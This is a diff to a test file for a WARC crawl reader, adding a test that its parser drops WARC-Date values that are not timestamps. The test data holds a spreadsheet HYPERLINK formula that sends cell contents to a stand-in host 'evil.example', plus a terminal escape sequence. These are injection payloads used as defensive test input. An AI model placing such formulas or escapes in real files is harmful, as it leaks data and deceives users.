@@ -116,6 +116,22 @@ def test_a_uri_with_spaces_and_escapes_prints_nothing_raw(tmp_path):
     assert "\x1b" not in done.stderr and "Replacing spaces" not in done.stderr, done.stderr
 
 
+def test_a_crawl_date_that_is_no_timestamp_is_left_out(tmp_path):
+    # The WARC-Date went into reports as sent: the audit CSV's "crawled" cell held a spreadsheet
+    # formula, and a terminal escape reached the CSV raw.
+    path = tmp_path / "crawl.warc"
+    write_warc(path, seed_pages(), truncate=False)
+    data = path.read_bytes()
+    dates = [b'=HYPERLINK("http://evil.example/?"&A1,"Click")', b"\x1b]0;PWNED\x07 2023", b"2023-10-02T25:00:00Z",
+             b"2023-10-02T08:00:00.5+02:00"]
+    for date in dates:
+        data = data.replace(b"WARC-Date: 2023-10-02T08:00:00Z\r\nWARC-Type: response", b"WARC-Date: " + date + b"\r\nWARC-Type: response", 1)
+    path.write_bytes(data)
+    articles, skipped = read_corpus([path])
+    assert all(item.reason.endswith("not an HTML page") for item in skipped)
+    assert sorted(a.crawled or "-" for a in articles) == ["-", "-", "-", "2023-10-02T08:00:00.5+02:00", *["2023-10-02T08:00:00Z"] * (len(articles) - 4)]
+
+
 def _records(path):
     """The byte offset where each record of a WARC file starts, and the file's bytes."""
     from warcio.archiveiterator import ArchiveIterator
